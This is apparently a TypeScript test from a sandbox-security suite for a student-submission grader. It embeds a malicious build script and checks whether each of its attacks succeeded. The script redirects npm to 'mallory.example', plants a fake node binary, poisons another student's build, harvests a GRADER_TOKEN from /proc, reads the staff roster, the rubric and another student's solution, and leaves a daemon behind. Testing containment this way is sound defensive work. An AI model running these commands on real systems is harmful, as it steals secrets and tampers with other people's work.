/** A build command that looks around, and leaves things behind. */

import { ROOT } from '../../root.js';
import { DONE, playing, printed, type Attempt } from '../framework/attack.js';
import { CLASS, HOME, PORT, SECRETS, STAFF } from '../framework/place.js';

const KIT_FILE = `${ROOT}/dist/harness/run/run.js`;

const PATCH = '// patched by mallory';

/** Each line is an attack, and none stops the others. The build fails at last, so that what it printed is shown. */
const SCRIPT = `
echo '${PATCH}' >> '${KIT_FILE}'
for home in "$HOME" ${HOME}; do
  echo 'registry=http://mallory.example' >> $home/.npmrc
  mkdir -p $home/.local/bin; echo '#!/bin/sh' > $home/.local/bin/node
  for built in $home/.cache/pblab/builds/*/product/solution.txt; do echo poisoned > $built; done
done
cat /proc/[0-9]*/environ | tr '\\0' '\\n' | grep ^GRADER_TOKEN
cat ${STAFF}/roster.csv ${STAFF}/rubric.yaml ${CLASS}/alice/solution.txt
env -i setsid sleep 3117 > /dev/null 2>&1 &
python3 -c "
import socket
socket.create_connection(('127.0.0.1', ${PORT}), 2).sendall(b'hello from the build')"
echo mallory > /tmp/left-by-build
echo '${DONE}'
exit 1
`;

export const build: Attempt = {
  files: { 'build.sh': SCRIPT },
  manifest: 'build: sh build.sh\n',
  kit: playing('view-first-primary', ['alice', 'mallory']),
  sign: new RegExp(DONE),
  attacks: [
    {
      group: 'build: the kit',
      name: 'build-patches-kit',
      what: 'The build appends a line to a program of the kit.',
      harm: ({ text }) => (text(KIT_FILE).includes(PATCH) ? 'the kit was changed' : undefined),
    },
    {
      group: 'build: home directory',
      name: 'build-writes-npmrc',
      what: 'The build makes npm of the staff ask a registry of its own.',
      harm: ({ text }) =>
        text(`${HOME}/.npmrc`).includes('mallory') ? '~/.npmrc was changed' : undefined,
    },
    {
      group: 'build: home directory',
      name: 'build-writes-local-bin',
      what: 'The build puts a program called node into ~/.local/bin.',
      harm: ({ exists }) =>
        exists(`${HOME}/.local/bin/node`) ? '~/.local/bin/node is there' : undefined,
    },
    {
      group: "build: another's build",
      name: 'build-poisons-cache',
      what: 'The build changes what was built of another submission.',
      harm: ({ text, filesNamed }) =>
        filesNamed(`${HOME}/.cache/pblab`, 'solution.txt').some((path) =>
          text(path).includes('poisoned'),
        )
          ? "alice's build was changed"
          : undefined,
    },
    {
      group: 'build: secrets of the staff',
      name: 'build-reads-environment',
      what: 'The build prints the environment of the grader.',
      harm: printed(new RegExp(SECRETS.token)),
    },
    {
      group: 'build: secrets of the staff',
      name: 'build-reads-roster',
      what: 'The build prints the roster.',
      harm: printed(new RegExp(SECRETS.roster)),
    },
    {
      group: 'build: secrets of the staff',
      name: 'build-reads-rubric',
      what: 'The build prints the rubric, with hidden scenarios.',
      harm: printed(new RegExp(SECRETS.rubric)),
    },
    {
      group: 'build: secrets of the staff',
      name: 'build-reads-source',
      what: 'The build prints the solution of somebody else.',
      harm: printed(new RegExp(SECRETS.aliceSource)),
    },
    {
      group: 'build: daemons',
      name: 'build-leaves-daemon',
      what: 'The build leaves a daemon without the mark of the kit in its environment.',
      harm: ({ left }) => left.find((words) => words.includes('sleep 3117')),
    },
    {
      group: 'build: network',
      name: 'build-dials-out',
      what: 'The build connects to a port of the machine.',
      harm: ({ heard }) =>
        heard.includes('from the build') ? 'the connection was made' : undefined,
    },
    {
      group: 'build: temporary files',
      name: 'build-leaves-file',
      what: 'The build leaves a file in /tmp.',
      harm: ({ exists }) => (exists('/tmp/left-by-build') ? 'the file is there' : undefined),
    },
  ],
};
